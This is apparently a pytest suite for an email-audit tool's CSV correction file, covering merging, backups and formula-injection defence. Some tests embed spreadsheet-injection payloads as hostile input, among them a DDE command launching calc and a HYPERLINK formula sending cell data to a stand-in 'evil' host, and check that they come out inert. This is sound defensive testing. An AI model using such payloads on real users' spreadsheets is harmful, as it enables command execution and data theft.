"""Writing and merging the correction file: spreadsheet-safe, and never losing a typed value."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import mailfactory as mf
import pytest

from inbox_audit.corrections import COLUMNS, GONE, load, read_table, undefuse
from inbox_audit.report import ReviewItem
from inbox_audit.review import merge, render, write_table

TZ = ZoneInfo("Europe/Brussels")


def item(key: str, confidence: float = 0.5, label: str = "quote", **kw) -> ReviewItem:
    fields = {"date": datetime(2026, 3, 3, 9, 30, tzinfo=UTC), "sender": "Jan <jan@x.be>",
              "subject": f"Offerte {key}", "source": "rule", "explanation": "rule nl quote"}
    fields.update(kw)
    return ReviewItem(key=key, label=label, confidence=confidence, **fields)


def rows_of(path):
    table = read_table(path)
    return [{c: undefuse(r.get(c)) for c in table.columns} for r in table.rows]


def test_a_new_file_has_a_bom_a_header_and_every_column(tmp_path):
    path = tmp_path / "corrections.csv"
    rows, columns, counts = merge(None, [item("a@x", 0.3), item("b@x", 0.6)], {}, TZ)
    write_table(path, render(columns, rows, ","))
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0].split(",") == list(COLUMNS)
    got = rows_of(path)
    assert [r["message_id"] for r in got] == ["a@x", "b@x"]
    assert got[0]["date"] == "2026-03-03 10:30"  # local time, as the buyer reads it
    assert got[0]["confidence"] == "0.30" and got[0]["predicted"] == "quote"
    assert counts["added"] == 2


def test_regenerating_keeps_typed_values_flags_gone_rows_and_appends_new(tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(
        "message_id;date;subject;predicted;correct;note;mine\n"
        "a@x;old;old subject;other;Quote;prijs klopt niet, € 12.500 é ë ü ç;tag 1\n"
        "gone@x;;verdwenen;quote;other;weg;tag 2\n"
        "old@x;;vorige week, niets getypt;quote;;;\n"
        "b@x;;deze week;quote;;;\n"
        "c@x;;;;;alleen een notitie;\n", encoding="utf-8-sig")
    current = {k: item(k) for k in ("a@x", "old@x", "b@x", "c@x", "n1@x", "n2@x")}
    wanted = [current["n2@x"], current["b@x"], current["n1@x"]]  # this period's review
    rows, columns, counts = merge(read_table(path), wanted, current, TZ)
    write_table(path, render(columns, rows, ";"))

    got = rows_of(path)
    assert [r["message_id"] for r in got] == ["a@x", "gone@x", "b@x", "c@x", "n2@x", "n1@x"]
    by_key = {r["message_id"]: r for r in got}
    assert by_key["a@x"]["correct"] == "Quote"
    assert by_key["a@x"]["note"] == "prijs klopt niet, € 12.500 é ë ü ç"
    assert by_key["a@x"]["mine"] == "tag 1"  # a column the buyer added survives too
    assert by_key["a@x"]["subject"] == "Offerte a@x"  # refreshed from the store
    assert by_key["gone@x"]["status"] == GONE and by_key["gone@x"]["note"] == "weg"
    assert by_key["gone@x"]["subject"] == "verdwenen"  # what we last knew of it
    assert by_key["c@x"]["note"] == "alleen een notitie"
    assert counts == {"added": 2, "kept": 4, "typed": 3, "gone": 1, "dropped": 1}
    # The file keeps the buyer's delimiter; and it is still valid for the report.
    assert path.read_text(encoding="utf-8-sig").splitlines()[0].startswith("message_id;date;")
    assert set(load(path, current)) == {"a@x"}


def test_a_message_that_comes_back_loses_its_gone_flag(tmp_path):
    path = tmp_path / "c.csv"
    path.write_text(f"message_id,correct,status\nback@x,other,{GONE}\n", encoding="utf-8")
    rows, columns, _ = merge(read_table(path), [], {"back@x": item("back@x")}, TZ)
    assert rows[0]["status"] == "" and rows[0]["correct"] == "other"


def test_backup_keeps_the_previous_version_and_no_temp_file_is_left(tmp_path):
    path = tmp_path / "c.csv"
    assert write_table(path, "message_id,correct\r\na@x,\r\n") is None
    first = path.read_bytes()
    backup = write_table(path, "message_id,correct\r\na@x,quote\r\n")
    assert backup == tmp_path / "c.csv.bak" and backup.read_bytes() == first
    # Writing the same content again does not overwrite the useful backup.
    assert write_table(path, "message_id,correct\r\na@x,quote\r\n") is None
    assert backup.read_bytes() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.csv", "c.csv.bak"]


def test_formula_cells_from_hostile_mail_are_inert(tmp_path):
    hostile = item("=cmd|' /C calc'!A0@evil", subject='=HYPERLINK("http://evil/?"&A1,"x")',
                   sender="@SUM(1+1) <x@evil.be>", explanation="-2+3")
    rows, columns, _ = merge(None, [hostile, item("\tz@x", subject="+32 3 123 45 67")], {}, TZ)
    text = render(columns, rows, ",")
    for record in list(csv.reader(io.StringIO(text)))[1:]:
        for cell in record:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    path = tmp_path / "c.csv"
    write_table(path, text)
    got = rows_of(path)
    assert got[0]["subject"] == '=HYPERLINK("http://evil/?"&A1,"x")'
    assert read_table(path).rows[0].key == "=cmd|' /C calc'!A0@evil"


def test_line_breaks_in_a_subject_do_not_split_the_row(tmp_path):
    rows, columns, _ = merge(None, [item("a@x", subject="twee\nregels\r\nhier")], {}, TZ)
    text = render(columns, rows, ",")
    assert len(text.splitlines()) == 2
    assert "twee regels hier" in text


# --- through the real pipeline, on the demo mailbox -------------------------------------

@pytest.fixture
def demo_store(cli, tmp_path, demo_mbox, demo_config):
    store = tmp_path / "store.db"
    assert cli("import", demo_mbox, "--config", demo_config, "--store", store, "-q"
               ).exit_code == 0
    return store


def test_review_and_report_agree_on_what_needs_review(cli, tmp_path, demo_store, demo_config):
    common = ("--config", demo_config, "--store", demo_store, "-q")
    assert cli("review", "--all", *common).exit_code == 0
    file_keys = [r["message_id"] for r in rows_of(tmp_path / "corrections.csv")]
    html = tmp_path / "r.html"
    assert cli("report", "--all", "--as-of", "2026-12-07T08:00", "--out", html,
               *common).exit_code == 0
    section = html.read_text("utf-8").split('<section id="review">')[1].split("</section>")[0]
    shown = re.findall(r'<div class="key"[^>]*>([^<]+)</div>', section)
    assert len(shown) == 15  # review_limit
    assert shown == file_keys[:len(shown)]
    confidences = [float(r["confidence"]) for r in rows_of(tmp_path / "corrections.csv")]
    assert confidences == sorted(confidences)  # least confident first


def test_review_week_lists_only_that_week(cli, tmp_path, demo_store, demo_config):
    out = tmp_path / "w.csv"
    result = cli("review", "--week", "2026-W37", "--out", out, "--config", demo_config,
                 "--store", demo_store, "-q")
    assert result.exit_code == 0, result.output
    dates = [r["date"][:10] for r in rows_of(out)]
    assert dates and all("2026-09-07" <= d <= "2026-09-13" for d in dates)
    assert "new" in result.output and str(out) in result.output
    assert cli("review", "--week", "2026-W37", "--all", "--out", out).exit_code == 2


def test_hostile_mail_in_the_store_comes_out_inert(cli, tmp_path, demo_config):
    box = mf.write(tmp_path / "evil.mbox", mf.mbox([
        mf.mail(subject='=HYPERLINK("http://evil.example/?"&A1;"click")',
                sender="@evil <sales@evil.example>", message_id="<-1+2@evil.example>")]))
    store, out = tmp_path / "s.db", tmp_path / "c.csv"
    common = ("--config", demo_config, "--store", store, "-q")
    assert cli("import", box, *common).exit_code == 0
    assert cli("review", "--all", "--out", out, *common).exit_code == 0
    for record in list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))[1:]:
        assert not any(c.startswith(("=", "+", "-", "@")) for c in record), record
    assert [r.key for r in read_table(out).rows] == ["-1+2@evil.example"]
